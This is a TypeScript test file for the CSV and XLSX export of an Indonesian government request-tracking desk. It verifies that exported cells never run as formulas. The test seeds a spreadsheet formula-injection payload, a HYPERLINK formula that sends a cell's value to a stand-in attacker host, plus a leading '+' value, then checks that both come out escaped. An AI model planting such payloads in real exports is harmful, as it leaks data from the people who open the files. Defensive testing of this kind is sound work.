import { type DeskClient, startDesk } from '../support/desk';
import { locationOf } from '../support/location-of';
import { submission } from '../support/submission';
import type { World } from '../support/world';
import { unzip } from '../support/zip';

let w: World;
let desk: DeskClient;
const trap = '=HYPERLINK("https://jahat.example?x="&A1,"klik")';
beforeAll(async () => {
  ({ w, desk } = await startDesk());
  await w.submit(submission({ application: { type: 'aplikasi', name: trap, summary: 'x' } }));
  w.world.now = new Date(w.world.now.getTime() + 1000);
  await w.submit(submission({ agency: { ...submission().agency, name: '+62 Dinas, "Kutip"' } }));
});
afterAll(() => w.stop());

const ask = (from: string, to: string) => desk.post('/meja/ekspor', { 'period.from': from, 'period.to': to });
const fetched = async (path: string) => {
  const answer = await desk.get(path);
  expect(answer.status).toBe(303);
  return Buffer.from(await (await fetch(locationOf(answer))).arrayBuffer());
};

it('makes CSV and XLSX of a period, in which nothing runs', async () => {
  const page = locationOf(await ask('2026-11-24', '2026-11-24'));
  expect(await desk.page(page)).toContain('2 permohonan');
  const csv = (await fetched(`${page}/csv`)).toString('utf8');
  const [titles, first, second] = csv.split('\n');
  expect(titles).toMatch(/^\uFEFFNomor surat,Nomor permohonan,OPD pemohon,Aplikasi,/);
  expect(first).toMatch(/^005\/[\w-]+,1\/PAB\/DISKOMINFO\/XI\/2026,Dinas Kesehatan,"'=HYPERLINK\(/);
  expect(first).toContain('2. Disposisi Kepala Dinas,Kepala Dinas Diskominfo SP,2026-11-24,,2026-11-25,0');
  expect(second).toContain(`"'+62 Dinas, ""Kutip"""`);

  const parts = await unzip(await fetched(`${page}/xlsx`));
  const xml = [...parts]
    .filter(([name]) => name.endsWith('.xml'))
    .map(([, bytes]) => bytes.toString('utf8'))
    .join('');
  expect(xml).toContain('=HYPERLINK(');
  expect(xml).not.toMatch(/<f[ >]/);
  const cells = [
    ...parts
      .get('xl/worksheets/sheet1.xml')!
      .toString('utf8')
      .matchAll(/<c [^>]*>/g),
  ].map(([cell]) => cell);
  expect(cells.length).toBeGreaterThan(20);
  expect(cells.filter((cell) => !/ t="(s|inlineStr)"/.test(cell) && !cell.endsWith('/>'))).toEqual([]);
});

it('says so where there is nothing, and where the period makes no sense', async () => {
  const page = locationOf(await ask('2026-01-01', '2026-01-31'));
  expect(await desk.page(page)).toContain('Tidak ada permohonan yang diterima');
  expect((await desk.get(`${page}/csv`)).status).toBe(404);
  for (const [from, to, text] of [
    ['2026-02-01', '2026-01-01', 'lebih awal'],
    ['2025-01-01', '2026-01-01', 'lebih dari satu tahun'],
    ['', '2026-01-01', 'belum diisi'],
  ] as const) {
    const answer = await ask(from, to);
    expect([answer.status, await answer.text()]).toEqual([400, expect.stringContaining(text)]);
  }
  expect((await desk.get('/meja/ekspor/x')).status).toBe(404);
  expect(await desk.page('/meja/ekspor')).toMatch(/value="2025-11-25"[\s\S]*value="2026-11-24"/);
});
